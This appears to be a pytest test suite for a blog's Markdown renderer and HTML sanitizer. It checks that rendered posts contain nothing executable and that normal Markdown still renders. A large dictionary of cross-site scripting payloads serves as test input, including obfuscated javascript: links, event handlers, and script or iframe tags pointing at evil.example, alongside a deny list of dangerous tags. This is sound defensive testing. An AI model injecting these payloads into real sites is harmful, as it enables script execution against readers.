"""Post bodies as the HTML readers get (apps/core/markdown.py): whatever a body holds, nothing in the
output runs in a browser, and the Markdown a blogger writes renders as they expect.

Outputs are judged as a browser would read them: parsed (html.parser, which unescapes attribute values
the way a browser does), never by searching the text for a string."""

import re
from dataclasses import dataclass
from html.parser import HTMLParser

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from apps.core.markdown import markdown_text, render_markdown, sanitize

FORBIDDEN_TAGS = frozenset(
    {
        "script",
        "iframe",
        "frame",
        "frameset",
        "object",
        "embed",
        "applet",
        "svg",
        "math",
        "style",
        "link",
        "form",
        "input",
        "button",
        "textarea",
        "select",
        "base",
        "meta",
        "noscript",
        "template",
        "audio",
        "video",
    }
)
# Attributes whose value a browser loads or follows as an address.
ADDRESS_ATTRIBUTES = frozenset(
    {"href", "src", "cite", "action", "formaction", "data", "poster", "background", "xlink:href", "ping", "lowsrc"}
)
SAFE_SCHEMES = frozenset({"http", "https", "mailto"})
# What the URL standard does before it reads a scheme: drop leading C0 controls and spaces, and any
# tab or newline anywhere ("jav\tascript:" is javascript:).
LEADING = re.compile(r"^[\x00-\x20]+")
TAB_OR_NEWLINE = re.compile(r"[\t\n\r]")
SCHEME = re.compile(r"([a-zA-Z][a-zA-Z0-9+.-]*):")


@dataclass
class Element:
    tag: str
    attrs: dict[str, str | None]


class Parsed(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.elements: list[Element] = []
        self.texts: list[str] = []
        self.comments: list[str] = []

    def handle_starttag(self, tag, attrs):
        self.elements.append(Element(tag, dict(attrs)))

    def handle_data(self, data):
        self.texts.append(data)

    def handle_comment(self, data):
        self.comments.append(data)

    def handle_decl(self, decl):
        self.comments.append(decl)

    def unknown_decl(self, data):
        self.comments.append(data)

    @property
    def text(self) -> str:
        return "".join(self.texts)

    def tags(self, name: str) -> list[Element]:
        return [element for element in self.elements if element.tag == name]


def parsed(fragment: str) -> Parsed:
    result = Parsed()
    result.feed(fragment)
    result.close()
    return result


def scheme(address: str) -> str:
    """The address's scheme, lower case, as a browser reads it ("" for a relative address)."""
    match = SCHEME.match(TAB_OR_NEWLINE.sub("", LEADING.sub("", address)))
    return match.group(1).lower() if match else ""


def assert_inert(fragment: str) -> Parsed:
    """Nothing in the fragment runs: no active element, no event handler or inline style, no comment
    (conditional comments), and every address relative or http(s)/mailto."""
    result = parsed(fragment)
    for element in result.elements:
        assert element.tag not in FORBIDDEN_TAGS, fragment
        for name, value in element.attrs.items():
            assert not name.startswith("on"), fragment
            assert name not in {"style", "formaction", "http-equiv"}, fragment
            if name in ADDRESS_ATTRIBUTES:
                assert scheme(value or "") in SAFE_SCHEMES | {""}, fragment
            if name == "srcset":
                # Each candidate: an address, then its descriptor.
                for candidate in (value or "").split(","):
                    assert scheme(candidate.strip()) in SAFE_SCHEMES | {""}, fragment
    assert result.comments == [], fragment
    return result


HOSTILE = {
    "script tag": "<script>alert(1)</script>",
    "script split by a script": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "unclosed script": "Hello <script>alert(1)",
    "script in uppercase": "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "img onerror": "<img src=x onerror=alert(1)>",
    "img onerror without quotes or src": "<img/onerror=alert(1)>",
    "svg onload": "<svg onload=alert(1)><circle r=5 /></svg>",
    "svg with script": '<svg><script>alert(1)</script><a xlink:href="javascript:alert(1)">x</a></svg>',
    "body onload": "<body onload=alert(1)>text",
    "a onclick": '<a href="https://ok.example/" onclick="alert(1)">x</a>',
    "details ontoggle": "<details open ontoggle=alert(1)><summary>s</summary>x</details>",
    "javascript href": '<a href="javascript:alert(1)">x</a>',
    "javascript with an escaped tab": '<a href="jav&#x09;ascript:alert(1)">x</a>',
    "javascript with a newline": '<a href="java\nscript:alert(1)">x</a>',
    "javascript in mixed case": '<a href="JaVaScRiPt:alert(1)">x</a>',
    "javascript after a space": '<a href=" javascript:alert(1)">x</a>',
    "javascript as decimal entities": '<a href="&#106;&#97;vascript:alert(1)">x</a>',
    "javascript after a control character": '<a href="&#1;javascript:alert(1)">x</a>',
    "data link": '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    "data image": '<img src="data:image/png;base64,iVBORw0KGgo=" alt="pixel">',
    "vbscript link": '<a href="vbscript:msgbox(1)">x</a>',
    "javascript cite": '<blockquote cite="javascript:alert(1)">q</blockquote><q cite=" JaVa&#x09;script:x">q</q>',
    "srcset": '<img src="https://ok.example/a.png" srcset="javascript:alert(1) 1x">',
    "srcset's second candidate": '<img src="/a.png" srcset="/a.png 1x, JaVaScRiPt:alert(1) 2x">',
    "srcset with data": '<picture><source srcset="data:image/svg+xml,<svg onload=alert(1)>"><img src=/a></picture>',
    "source of a video": '<video><source src="javascript:alert(1)" type="video/mp4"></video>',
    "iframe": '<iframe src="https://evil.example/"></iframe>',
    "object": '<object data="https://evil.example/x.swf"></object>',
    "embed": '<embed src="https://evil.example/x.swf">',
    "form and input": '<form action="https://evil.example/"><input name=a><button formaction=javascript:x>go</button>',
    "style tag": "<style>body{display:none}</style>text",
    "style attribute": '<p style="background:url(javascript:alert(1))">x</p>',
    "base": '<base href="https://evil.example/">',
    "meta refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "link stylesheet": '<link rel="stylesheet" href="https://evil.example/x.css">',
    "unclosed tags and unquoted attributes": "<p>unclosed <b>bold <i>it <a href=javascript:alert(1) title=x>link",
    "attribute breaking out of its quotes": '<img src="x" alt="a" "onerror=alert(1)">',
    "tag inside an attribute": '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "textarea hiding a script": "<textarea><script>alert(1)</script></textarea>",
    "conditional comment": "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "comment ending early": "<!-- x --!><img src=x onerror=alert(1)> -->",
    "cdata": "<![CDATA[<script>alert(1)</script>]]>",
    "markdown link to javascript": "[x](javascript:alert(1)) [y](JAVASCRIPT:alert(1)) [z](<javascript:alert(1)>)",
    "markdown link with an escaped scheme": "[x](&#x6A;avascript:alert(1))",
    "markdown reference link to javascript": "[x][evil]\n\n[evil]: javascript:alert(1)",
    "markdown image to javascript": "![y](javascript:alert(1))",
    "markdown image of data": "![y](data:image/png;base64,iVBORw0KGgo=)",
    "markdown link to data": "[y](data:text/html;base64,PHNjcmlwdD4=)",
    "autolink to javascript": "<javascript:alert(1)>",
    "raw html block": "<div>\n<script>alert(1)</script>\n<img src=x onerror=alert(1)>\n</div>",
    "raw html inline": "Some *text* <span onclick=alert(1)>inline</span> <img src=x onerror=alert(1)> more",
    "html in a table cell": "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "html in a heading": "# Title <img src=x onerror=alert(1)>",
}


@pytest.mark.parametrize("body", HOSTILE.values(), ids=HOSTILE.keys())
def test_nothing_in_a_hostile_body_runs(body):
    assert_inert(render_markdown(body))


@pytest.mark.parametrize("body", HOSTILE.values(), ids=HOSTILE.keys())
def test_the_sanitizer_alone_leaves_nothing_that_runs(body):
    assert_inert(sanitize(body))


def test_a_script_split_by_another_leaves_neither_a_script_nor_its_code():
    result = assert_inert(render_markdown("<scr<script>ipt>alert(1)</scr</script>ipt>"))

    assert "alert" not in result.text


DANGEROUS_LINKS = [
    name for name in HOSTILE if HOSTILE[name].startswith('<a href="') and "ok.example" not in HOSTILE[name]
]


@pytest.mark.parametrize("name", DANGEROUS_LINKS)
def test_a_dangerous_address_is_dropped_but_the_link_text_stays(name):
    result = assert_inert(render_markdown(HOSTILE[name]))

    assert [link.attrs.get("href") for link in result.tags("a")] == [None]
    assert result.text.strip() == "x"


def test_a_markdown_link_to_javascript_is_no_link():
    result = assert_inert(render_markdown("[click me](javascript:alert(1))"))

    assert [link.attrs.get("href") for link in result.tags("a")] in ([], [None])
    assert "click me" in result.text


def test_data_images_are_dropped_and_ordinary_images_kept():
    result = assert_inert(
        render_markdown("![pixel](data:image/png;base64,iVBORw0KGgo=) ![ok](https://cdn.example/a.png)")
    )

    assert [image.attrs.get("src") for image in result.tags("img")] == [None, "https://cdn.example/a.png"]


def test_escaped_html_stays_text():
    result = assert_inert(render_markdown("&lt;script&gt;alert(1)&lt;/script&gt; and `<b>code</b>`"))

    assert result.tags("b") == []
    assert "<script>alert(1)</script>" in result.text
    assert "<b>code</b>" in result.text


def test_broken_html_is_closed_and_keeps_its_safe_parts():
    result = assert_inert(render_markdown("<p>unclosed <b>bold <a href=https://ok.example/ title=x>link"))

    assert [link.attrs["href"] for link in result.tags("a")] == ["https://ok.example/"]
    assert "unclosed bold link" in " ".join(result.text.split())


def test_autolinks_become_links_only_to_safe_addresses():
    result = assert_inert(render_markdown("<https://ok.example/a?b=1&c=2> <me@example.com> <javascript:alert(1)>"))

    assert [link.attrs["href"] for link in result.tags("a")] == [
        "https://ok.example/a?b=1&c=2",
        "mailto:me@example.com",
    ]


def test_links_open_no_window_that_can_reach_back():
    result = assert_inert(render_markdown('<a href="https://ok.example/" target="_blank" rel="opener">x</a>'))

    (link,) = result.tags("a")
    assert "target" not in link.attrs
    assert link.attrs["rel"] == "noopener"


def test_harmless_html_and_relative_addresses_are_kept():
    body = (
        "<details><summary>More</summary>H<sub>2</sub>O</details>\n\n"
        '<blockquote cite="https://ok.example/source">q</blockquote>\n\n'
        "[a](/about/) [b](#notes) [c](mailto:a@example.com)"
    )
    result = assert_inert(render_markdown(body))

    assert {"details", "summary", "sub", "blockquote"} <= {element.tag for element in result.elements}
    assert result.tags("blockquote")[0].attrs["cite"] == "https://ok.example/source"
    assert [link.attrs["href"] for link in result.tags("a")] == ["/about/", "#notes", "mailto:a@example.com"]


def test_a_body_may_use_only_the_classes_and_ids_the_renderer_sets():
    result = assert_inert(render_markdown('<code class="language-js evil">x</code> <h2 id="bad id">t</h2>'))

    assert result.tags("code")[0].attrs["class"] == "language-js"
    assert "id" not in result.tags("h2")[0].attrs


# Hostile bodies, and the pieces of Markdown and HTML syntax that could join them into something new.
FRAGMENTS = [
    *HOSTILE.values(),
    *("# Heading", "```js\n", "```", "| a |\n|---|\n", "> ", "- ", "*", "_", "`", "[", "](", ")", "<", ">", '"'),
    *("'", "&", "&#", ";", "=", "\n", "\n\n", "    ", "<a href=", "javascript:", "<img ", "on"),
]


@settings(max_examples=200, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(st.sampled_from(FRAGMENTS) | st.text(max_size=8), max_size=12).map("".join))
def test_no_mix_of_hostile_fragments_and_markdown_produces_anything_that_runs(body):
    assert_inert(render_markdown(body))


# The Markdown a blogger writes.


def test_fenced_code_keeps_its_language_and_shows_the_code_as_written():
    code = "if a < b && c > d:\n    print('<script>alert(1)</script>')\n"
    result = assert_inert(render_markdown(f"```python\n{code}```\n"))

    assert [element.tag for element in result.elements] == ["pre", "code"]
    assert result.tags("code")[0].attrs["class"] == "language-python"
    assert result.text.strip("\n") == code.strip("\n")


def test_table_alignment_is_a_class_not_a_style():
    result = assert_inert(render_markdown("| a | b | c | d |\n|:--|:-:|--:|---|\n| 1 | 2 | 3 | 4 |\n"))

    for cell in ("th", "td"):
        assert [element.attrs.get("class") for element in result.tags(cell)] == [
            "ta-left",
            "ta-center",
            "ta-right",
            None,
        ]


def test_headings_get_an_id_and_an_anchor_link_to_it():
    result = assert_inert(render_markdown("# Hello World\n\n## Second *part*\n"))

    assert [heading.attrs["id"] for heading in (*result.tags("h1"), *result.tags("h2"))] == [
        "hello-world",
        "second-part",
    ]
    anchors = [link for link in result.tags("a") if link.attrs.get("class") == "header-anchor"]
    assert [anchor.attrs["href"] for anchor in anchors] == ["#hello-world", "#second-part"]


def test_images_load_lazily():
    result = assert_inert(render_markdown('![A cat](https://cdn.example/cat.jpg "Cat") <img src="/b.png" alt="b">'))

    for image in result.tags("img"):
        assert image.attrs["loading"] == "lazy"
        assert image.attrs["decoding"] == "async"
    assert result.tags("img")[0].attrs == {
        "src": "https://cdn.example/cat.jpg",
        "alt": "A cat",
        "title": "Cat",
        "loading": "lazy",
        "decoding": "async",
    }


def test_footnotes_link_to_their_note_and_back():
    result = assert_inert(render_markdown("Text[^1].\n\n[^1]: The note.\n"))

    hrefs = [link.attrs["href"] for link in result.tags("a")]
    ids = {element.attrs["id"] for element in result.elements if "id" in element.attrs}
    assert "#fn1" in hrefs and "fn1" in ids
    assert "#fnref1" in hrefs and "fnref1" in ids
    assert "The note." in result.text


def test_strikethrough():
    result = assert_inert(render_markdown("~~gone~~ kept"))

    assert len(result.tags("s")) == 1
    assert result.text.strip() == "gone kept"


def test_an_empty_body_renders_as_nothing():
    assert render_markdown("") == ""
    assert markdown_text("") == ""


def test_plain_text_is_the_words_without_markup_on_one_line():
    text = markdown_text(
        "# Title\n\nSome **bold** & [linked](https://ok.example/) text.\n\n<script>alert(1)</script>\n- one"
    )

    assert text == "Title Some bold & linked text. one"


def test_plain_text_is_cut_at_a_word_with_an_ellipsis():
    body = "Readers like short descriptions, " + "wonderful " * 50

    text = markdown_text(body, limit=60)

    assert len(text) <= 60
    assert text.endswith("…")
    words = text.removesuffix("…").split()
    assert words == body.split()[: len(words)]
    assert markdown_text("A short one.", limit=60) == "A short one."
